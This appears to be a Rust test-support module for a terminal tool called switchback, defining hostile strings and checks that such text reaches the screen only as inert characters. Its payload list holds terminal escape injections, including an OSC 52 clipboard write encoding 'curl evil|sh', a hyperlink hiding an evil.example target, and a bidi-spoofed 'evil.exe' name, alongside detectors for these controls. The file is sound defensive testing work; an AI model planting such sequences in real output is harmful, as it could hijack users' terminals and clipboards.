//! What a hostile platform puts in its strings, and the checks that none of it reaches a
//! terminal as anything but inert text.

/// Every kind of hostile text, each with a marker that survives sanitizing as plain text.
pub const PAYLOADS: [&str; 20] = [
    // CSI: clear the screen, report the title, ask the cursor position.
    "\x1b[2Jcsi-clear",
    "\x1b[21tcsi-title-report",
    "\x1b[6ncsi-cursor-query",
    // OSC 0: the window title.
    "\x1b]0;PWNED-TITLE\x07osc-title",
    // OSC 52: write the clipboard (base64 of `curl evil|sh`).
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07osc-clipboard",
    // OSC 8: a hyperlink hiding its target.
    "\x1b]8;;https://evil.example/x\x1b\\click-me\x1b]8;;\x1b\\",
    // OSC 10 and 11: ask the terminal for its colours.
    "\x1b]10;?\x07\x1b]11;?\x1b\\osc-colour-query",
    // DCS: request a termcap string.
    "\x1bP+q544e\x1b\\dcs-request",
    // C0: NUL, backspace, carriage return, bell, and a form feed.
    "nul\0bs\x08cr\rbel\x07ff\x0c",
    // DEL.
    "del\x7fdel",
    // C1: CSI, OSC, DCS and ST as single code points.
    "\u{9b}31mc1-csi\x7f",
    "\u{9d}0;C1-TITLE\u{9c}c1-osc",
    "\u{90}c1-dcs\u{9c}",
    // Bidi overrides and isolates.
    "\u{202e}evil.exe\u{202c}txt \u{2067}rtl\u{2069} \u{200f}mark",
    // Combining marks piled on one letter.
    "ze\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}ro",
    // A ZWJ family, a flag, and a skin tone.
    "fam\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}ily",
    "flag\u{1f1ef}\u{1f1f5}\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
    // Halfwidth katakana with sound marks, wide CJK.
    "\u{ff76}\u{ff9e}\u{ff8a}\u{ff9f}\u{5bbd}\u{5b57}",
    // A line feed and a tab in the middle of a name.
    "two\nlines\tand-tab",
    // Escape sequences split by an escape.
    "\x1b\x1b[2J\x1b\x1b]0;X\x07",
];

/// A hostile string for field `n`: one payload, cycled, with the field's own name kept so
/// a reader can tell which field it is.
pub fn poison(field: &str, n: usize) -> String {
    format!("{field}{}", PAYLOADS[n % PAYLOADS.len()])
}

/// All the payloads in one string.
pub fn all() -> String {
    PAYLOADS.concat()
}

/// A commit message of about a megabyte, hostile throughout.
pub fn huge_message() -> String {
    let mut message = String::from("huge commit ");
    while message.len() < 1_000_000 {
        message.push_str(&all());
    }
    message
}

/// Where a terminal would act on something in `bytes` that switchback did not write
/// itself: any escape other than a CSI with a final byte the screen library uses, any CSI
/// asking the terminal something, OSC, DCS, APC, PM, SOS, C1 code points, NUL, backspace,
/// bell, DEL, and bidi controls. `None` when there is none.
pub fn terminal_hazard(bytes: &[u8]) -> Option<String> {
    let context = |at: usize| {
        String::from_utf8_lossy(&bytes[at.saturating_sub(40)..(at + 40).min(bytes.len())])
            .into_owned()
    };
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            0x1b => {
                if bytes.get(i + 1) != Some(&b'[') {
                    return Some(format!(
                        "an escape that is not CSI at byte {i}: {:?}",
                        context(i)
                    ));
                }
                let mut j = i + 2;
                while j < bytes.len() && (0x20..=0x3f).contains(&bytes[j]) {
                    j += 1;
                }
                let Some(&last) = bytes.get(j) else {
                    return Some(format!("an unfinished CSI at byte {i}"));
                };
                let params = String::from_utf8_lossy(&bytes[i + 2..j]).into_owned();
                // What ratatui and crossterm write: moves, colours and attributes, erases,
                // modes (alternate screen, cursor, mouse, paste, focus), scroll region.
                let known = matches!(
                    last,
                    b'H' | b'm'
                        | b'J'
                        | b'K'
                        | b'h'
                        | b'l'
                        | b'A'
                        | b'B'
                        | b'C'
                        | b'D'
                        | b'G'
                        | b'r'
                        | b'S'
                        | b'T'
                        | b'q'
                        | b'u'
                );
                // Queries and reports: a terminal answers these into the program's input.
                let query =
                    matches!(last, b'n' | b't' | b'c') || (last == b'u' && params.starts_with('?'));
                if !known || query {
                    return Some(format!(
                        "CSI {params:?} {:?} at byte {i}: {:?}",
                        last as char,
                        context(i)
                    ));
                }
                i = j + 1;
                continue;
            }
            0x00 | 0x07 | 0x08 | 0x7f => {
                return Some(format!(
                    "control byte {:#04x} at byte {i}: {:?}",
                    bytes[i],
                    context(i)
                ));
            }
            // C1 controls and bidi controls as UTF-8.
            0xc2 if bytes.get(i + 1).is_some_and(|b| (0x80..=0x9f).contains(b)) => {
                return Some(format!(
                    "C1 control U+00{:02X} at byte {i}: {:?}",
                    bytes[i + 1],
                    context(i)
                ));
            }
            0xe2 if bytes.get(i + 1) == Some(&0x80)
                && bytes
                    .get(i + 2)
                    .is_some_and(|b| matches!(b, 0x8e | 0x8f | 0xaa..=0xae)) =>
            {
                return Some(format!("a bidi control at byte {i}: {:?}", context(i)));
            }
            0xe2 if bytes.get(i + 1) == Some(&0x81)
                && bytes.get(i + 2).is_some_and(|b| (0xa6..=0xa9).contains(b)) =>
            {
                return Some(format!("a bidi isolate at byte {i}: {:?}", context(i)));
            }
            0xd8 if bytes.get(i + 1) == Some(&0x9c) => {
                return Some(format!(
                    "an Arabic letter mark at byte {i}: {:?}",
                    context(i)
                ));
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The first control character in a script's output other than `\n` (and `\t`, which
/// switchback writes itself in tables), or a bidi control.
pub fn script_hazard(text: &str) -> Option<(usize, char)> {
    text.char_indices()
        .find(|&(_, c)| (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c))
}

pub fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn the_checks_catch_every_payload_raw() {
    for payload in PAYLOADS.iter().filter(|p| !p.contains('\n')) {
        let raw = payload.as_bytes();
        let caught = terminal_hazard(raw).is_some()
            || script_hazard(payload).is_some()
            || !payload.is_ascii();
        assert!(caught, "{payload:?}");
    }
    for payload in &PAYLOADS[1..14] {
        assert!(terminal_hazard(payload.as_bytes()).is_some(), "{payload:?}");
    }
    assert!(terminal_hazard(b"\x1b[1;1H\x1b[38;5;1mok\x1b[0m\x1b[?1049l\x1b[?25h").is_none());
}
